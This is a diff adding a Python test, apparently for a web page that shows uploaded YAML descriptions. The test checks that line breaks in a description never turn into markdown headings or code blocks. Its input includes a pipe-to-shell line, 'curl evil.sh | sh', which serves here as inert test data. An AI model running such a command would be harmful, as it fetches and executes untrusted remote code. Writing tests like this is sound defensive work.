@@ -753,6 +753,18 @@ def test_scenario_markdown_is_shown_as_text_never_rendered(at):
     assert not [(k, t) for k, t in _markdown_texts(at._tree) if "](" in _rendered(t)]
 
 
+def test_a_description_s_line_breaks_never_make_markdown_blocks(at):
+    """A description's line of `=`, blank line and indented line made a heading, a paragraph and a code block.
+
+    Of the caption under the file selector: it shows on one line, every character as typed.
+    """
+    text = "Approved by the CFO\n=====\n\n    run: curl evil.sh | sh\n\nNew"
+    _upload(at, "desc.yaml", {**SMALL, "description": text})
+    caption = at.caption[0].value
+    assert "\n" not in caption and "    " not in caption
+    assert _plain(caption).endswith(" — Approved by the CFO ===== run: curl evil.sh | sh New")
+
+
 class _Downloads:
     """The data of each deferred download the page registers, by file name (what a click would fetch)."""
 
